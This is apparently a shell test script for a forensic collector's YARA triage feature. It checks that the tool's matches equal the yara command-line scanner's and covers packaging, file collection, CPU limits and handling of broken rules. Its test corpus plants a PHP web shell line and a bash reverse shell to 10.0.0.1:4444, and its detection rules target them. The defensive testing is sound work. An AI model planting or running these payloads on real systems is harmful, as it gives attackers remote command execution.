#!/usr/bin/env bash
# Triage through the collector's command line: a triage-only run finds exactly what the yara
# command-line scanner finds on the same corpus, writes a small package with the matches in
# case.db and live/triage/, stores matching files on request, and a rule that does not compile
# stops the run before anything is written.
source "$TEST_HELPERS"

mkdir -p corpus/www/uploads corpus/tmp corpus/deep/a/b
printf '<?php eval($_POST["cmd"]); ?>\n' >corpus/www/uploads/shell.php
printf 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >corpus/tmp/rs.sh
printf 'nothing to see\n' >corpus/www/index.html
head -c 200000 /dev/urandom >corpus/deep/a/b/random.bin
printf 'stratum+tcp://pool.example:3333 PLANTED_MARKER_42\n' >corpus/deep/a/b/miner.conf
mkfifo corpus/tmp/fifo
cat >rules.yar <<'YAR'
rule planted_marker { meta: severity = "high" strings: $a = "PLANTED_MARKER_42" condition: $a }
rule php_eval_post { strings: $a = "eval($_POST" condition: $a }
rule dev_tcp { meta: severity = "critical" strings: $a = "/dev/tcp/" condition: $a }
rule never_matches { strings: $a = "no such string anywhere 7f3a" condition: $a }
YAR

expect_exit 0 timeout 120 "$COLLECTOR" --profile none --rules rules.yar --scan "$PWD/corpus" \
  --no-encrypt --case-dir cases --case-id TRIAGE --quiet
pkg=$OUT
[[ -f $pkg ]] || fail "no package written"
ok "triage-only run writes a package: $(stat -c %s "$pkg") bytes"

expect_exit 0 "$BIUNZIP" extract "$pkg" -o out
ours=$(sqlite3 out/case.db "select rule || ' ' || path from triage_matches where target_type = 'file' order by 1")
theirs=$(yara -r rules.yar "$PWD/corpus" | sort)
[[ -n $theirs ]] || fail "yara found nothing: the corpus is wrong"
[[ $ours == "$theirs" ]] || fail "matches differ from yara's:
ours:
$ours
yara:
$theirs"
ok "the (rule, file) matches equal yara -r's ($(wc -l <<<"$theirs") matches)"

[[ $(wc -l <out/live/triage/matches.jsonl) -eq $(wc -l <<<"$theirs") ]] || fail "JSONL rows differ from case.db"
jq -e -s 'map(select(.rule == "dev_tcp")) | length == 1 and all(.severity == "critical" and (.sha256 | length) == 64)' \
  out/live/triage/matches.jsonl >/dev/null || fail "dev_tcp row lacks severity or sha256"
ok "matches also in live/triage/matches.jsonl with severity and sha256"

expect_exit 0 timeout 120 "$COLLECTOR" --profile none --rules rules.yar --scan "$PWD/corpus" \
  --collect-matches --no-encrypt --case-dir cases2 --quiet
expect_exit 0 "$BIUNZIP" extract "$OUT" -o out2
cmp out2/files"$PWD"/corpus/tmp/rs.sh corpus/tmp/rs.sh || fail "--collect-matches did not store rs.sh"
[[ ! -e out2/files"$PWD"/corpus/www/index.html ]] || fail "a file without a match was stored"
ok "--collect-matches stores exactly the matching files"

# Collecting and scanning the same tree: collected files are scanned from the bytes the writer
# stored (target "collected"), and the scan scope leaves them out, so every file is scanned
# once and the (rule, file) set is still yara's. A file over --max-file-size is not stored
# whole, so the scope scans it.
head -c 300000 /dev/urandom >corpus/deep/big.bin
printf 'PLANTED_MARKER_42\n' >>corpus/deep/big.bin
theirs=$(yara -r rules.yar "$PWD/corpus" | sort)
expect_exit 0 timeout 120 "$COLLECTOR" --profile none --collect "$PWD/corpus/**" --rules rules.yar \
  --scan "$PWD/corpus" --max-file-size 100000 --no-encrypt --case-dir cases3 --quiet
expect_exit 0 "$BIUNZIP" extract "$OUT" -o out3
ours=$(sqlite3 out3/case.db "select rule || ' ' || path from triage_matches order by 1")
[[ $ours == "$theirs" ]] || fail "collect+scan matches differ from yara's:
ours:
$ours
yara:
$theirs"
types=$(sqlite3 out3/case.db "select target_type || ' ' || path from triage_matches order by path" | sed "s|$PWD/||")
[[ $types == $'collected corpus/deep/a/b/miner.conf\nfile corpus/deep/big.bin\ncollected corpus/tmp/rs.sh\ncollected corpus/www/uploads/shell.php' ]] ||
  fail "each file should be scanned once, collected ones from the stored bytes: $types"
ok "collect + scan of one tree: each file scanned once, the matches equal yara -r's"

# A collected file larger than the writer's 8 MiB buffer streams by in blocks; triage assembles a
# copy and scans it as "collected" (marker in its last bytes), so the scope does not read it again.
mkdir -p bigtree
head -c 9437184 /dev/urandom >bigtree/nine.bin
printf 'PLANTED_MARKER_42\n' >>bigtree/nine.bin
expect_exit 0 timeout 120 "$COLLECTOR" --profile none --collect "$PWD/bigtree/**" --rules rules.yar \
  --scan "$PWD/bigtree" --no-encrypt --case-dir cases-big --quiet
expect_exit 0 "$BIUNZIP" extract "$OUT" -o out-big
eq "$(sqlite3 out-big/case.db "select target_type || ' ' || rule from triage_matches")" "collected planted_marker" \
  "a 9 MiB collected file is scanned once, from the stored bytes"
ok "a collected file over the writer's buffer is scanned from the stored bytes, whole"

# --cpu-limit holds for the scanning threads too (generous bound: twice the limit).
mkdir -p cpu-corpus
for i in $(seq 12); do head -c 8388608 /dev/urandom >cpu-corpus/blob$i.bin; done
TIMEFORMAT='%3U %3S %3R'
{ time "$COLLECTOR" --profile none --rules rules.yar --scan "$PWD/cpu-corpus" --no-encrypt \
  --case-dir cases-cpu --quiet --cpu-limit 20 </dev/null >/dev/null 2>&1; } 2>cpu.times
read -r user sys real <cpu.times
share=$(awk -v u="$user" -v s="$sys" -v r="$real" 'BEGIN { printf "%d", (u + s) * 100 / r }')
((share <= 40)) || fail "--cpu-limit 20 used $share% of wall time while scanning ($user user + $sys sys in $real s)"
ok "--cpu-limit 20 during a triage scan: $share% CPU over the run"

printf 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n' >bad.yar
expect_exit 2 "$COLLECTOR" --profile none --rules bad.yar --scan "$PWD/corpus" --no-encrypt --case-dir cases-bad
# The line yara's own compiler reports for the same file.
yara_err=$(yara bad.yar /dev/null 2>&1 || true)
line=$(grep '^error' <<<"$yara_err" | grep -o 'bad.yar([0-9]*)' | grep -o '[0-9][0-9]*' | head -n 1)
[[ -n $line ]] || fail "yara did not report a line for bad.yar"
contains "$ERR" "bad.yar:$line:"
contains "$ERR" 'undefined string'
[[ $(wc -l <<<"$ERR") -eq 1 ]] || fail "the error is not one line: $ERR"
[[ ! -e cases-bad ]] || fail "a package or case directory was written despite the bad rule"
ok "a rule that does not compile stops the run first, naming file:line"
echo "$pass_count passed, 0 failed"
